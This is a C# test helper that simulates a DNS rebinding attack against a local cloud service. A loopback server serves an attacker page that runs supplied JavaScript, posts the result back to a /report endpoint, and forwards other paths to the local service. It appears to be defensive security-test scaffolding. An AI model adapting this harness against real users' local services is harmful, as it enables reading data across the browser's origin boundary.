using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text;

namespace Crosslink.Tests.Local.Cloud.Server;

/// <summary>
/// A name of an attacker's as a browser meets it: it first leads to the attacker's server, which has a page, and then to
/// the local cloud. Both are behind one port here, which decides by the path.
/// </summary>
internal sealed class ReboundName : IAsyncDisposable
{
    private readonly TcpListener _listener = new(IPAddress.Loopback, 0);
    private readonly CancellationTokenSource _stop = new();
    private readonly TaskCompletionSource<string> _report = new(TaskCreationOptions.RunContinuationsAsynchronously);
    private readonly int _cloudPort;
    private readonly string _page;
    private readonly Task _serving;

    /// <param name="cloudPort">Where the local cloud is.</param>
    /// <param name="script">Runs in the attacker's page; what it returns is reported.</param>
    public ReboundName(int cloudPort, string script)
    {
        _cloudPort = cloudPort;
        _page = $$"""<script>(async () => { {{script}} })().catch(e => "" + e).then(report => fetch("/report", { method: "POST", body: report }))</script>""";
        _listener.Start();
        _serving = ServeAsync();
    }

    /// <summary>The path of the page.</summary>
    public static string PagePath => "/page";

    public int Port => ((IPEndPoint)_listener.LocalEndpoint).Port;

    /// <summary>What the page has reported.</summary>
    public Task<string> Report => _report.Task;

    public async ValueTask DisposeAsync()
    {
        await _stop.CancelAsync();
        _listener.Dispose();
        await _serving;
        _stop.Dispose();
    }

    private async Task ServeAsync()
    {
        var open = new List<Task>();
        try
        {
            while (true)
            {
                open.Add(HandleAsync(await _listener.AcceptTcpClientAsync(_stop.Token)));
            }
        }
        catch (OperationCanceledException)
        {
            await Task.WhenAll(open);
        }
    }

    private async Task HandleAsync(TcpClient client)
    {
        using var _ = client;
        try
        {
            var stream = client.GetStream();
            var head = await ReadHeadAsync(stream);
            var path = head.Split(' ')[1];
            if (path == PagePath)
            {
                await AnswerAsync(stream, _page);
            }
            else if (path == "/report")
            {
                var length = head.Split("\r\n").Single(line => line.StartsWith("Content-Length:", StringComparison.OrdinalIgnoreCase))[15..];
                var body = new byte[int.Parse(length, CultureInfo.InvariantCulture)];
                await stream.ReadExactlyAsync(body, _stop.Token);
                _report.TrySetResult(Encoding.UTF8.GetString(body));
                await AnswerAsync(stream, "");
            }
            else
            {
                await ForwardAsync(stream, head);
            }
        }
        catch (Exception exception) when (exception is IOException or OperationCanceledException)
        {
            // The browser has gone, or is about to be.
        }
    }

    // One request for each connection, so that the next one is looked at again.
    private async Task ForwardAsync(NetworkStream browser, string head)
    {
        using var cloud = new TcpClient();
        await cloud.ConnectAsync(IPAddress.Loopback, _cloudPort, _stop.Token);
        var single = head.Replace("Connection: keep-alive\r\n", "Connection: close\r\n", StringComparison.OrdinalIgnoreCase);
        await cloud.GetStream().WriteAsync(Encoding.Latin1.GetBytes(single), _stop.Token);
        await cloud.GetStream().CopyToAsync(browser, _stop.Token);
    }

    private async Task<string> ReadHeadAsync(NetworkStream stream)
    {
        var head = new StringBuilder();
        var octet = new byte[1];
        while (!head.ToString().EndsWith("\r\n\r\n", StringComparison.Ordinal))
        {
            await stream.ReadExactlyAsync(octet, _stop.Token);
            head.Append((char)octet[0]);
        }

        return head.ToString();
    }

    private async Task AnswerAsync(NetworkStream stream, string html) => await stream.WriteAsync(
        Encoding.UTF8.GetBytes($"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {html.Length}\r\nConnection: close\r\n\r\n{html}"), _stop.Token);
}
